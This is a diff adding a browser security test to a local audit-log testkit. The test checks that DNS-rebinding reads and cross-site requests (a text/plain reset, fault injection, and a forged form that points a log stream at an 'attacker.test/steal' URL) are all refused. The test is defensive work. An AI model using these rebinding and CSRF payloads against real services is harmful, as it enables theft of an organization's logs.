@@ -98,6 +98,8 @@ before(async () => {
       '--disable-background-networking',
       '--disable-component-update',
       '--disable-sync',
+      // A name another site controls, rebound to this machine (DNS rebinding).
+      '--host-resolver-rules=MAP attacker.test 127.0.0.1',
     ],
   });
 });
@@ -272,5 +274,54 @@ test('the log-stream form streams the organization to a collector and shows the 
   } finally {
     await page.close();
     await new Promise((resolve) => collector.close(resolve));
+  }
+});
+
+test('a page of another site can neither read nor change the testkit', async () => {
+  const port = new URL(kit.url).port;
+  const attacker = createServer((req, res) => {
+    res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>elsewhere</title>');
+  });
+  await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+  const page = await context.newPage();
+  try {
+    // Rebinding: the attacker's name now points at the testkit's port.
+    for (const path of ['/_testkit/events', '/', `/viewer/events?org=${ORG}`]) {
+      const res = await page.goto(`http://attacker.test:${port}${path}`);
+      assert.equal(res.status(), 403, path);
+      assert.ok(!(await page.content()).includes('user.signed_in'), path);
+    }
+    // Cross-site requests a page may send without asking: a text/plain reset and a form post.
+    await page.goto(`http://attacker.test:${attacker.address().port}/`);
+    await page.evaluate(async (target) => {
+      await fetch(`${target}/_testkit/reset`, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' });
+      await fetch(`${target}/_testkit/faults`, {
+        method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' },
+        body: JSON.stringify({ path: '/audit_logs/events', action: { type: 'respond', status: 200 } }),
+      });
+    }, kit.url);
+    const posted = page.waitForNavigation({ waitUntil: 'load' });
+    await page.evaluate(({ target, org }) => {
+      const form = document.createElement('form');
+      form.method = 'POST';
+      form.action = `${target}/viewer/log-streams`;
+      for (const [name, value] of Object.entries({ org, do: 'set', type: 'http', url: 'http://attacker.test:1/steal' })) {
+        const input = document.createElement('input');
+        input.name = name;
+        input.value = value;
+        form.appendChild(input);
+      }
+      document.body.appendChild(form);
+      form.submit();
+    }, { target: kit.url, org: ORG });
+    await posted;
+    assert.equal((await kit.events(ORG)).length, SEED.length, 'nothing was reset');
+    const faults = await (await fetch(`${kit.url}/_testkit/faults`)).json();
+    assert.deepEqual(faults.data, [], 'no fault was installed');
+    const stream = await fetch(`${kit.url}/_testkit/streams/${ORG}`);
+    assert.equal(stream.status, 404, 'no stream was set');
+  } finally {
+    await page.close();
+    await new Promise((resolve) => attacker.close(resolve));
   }
 });
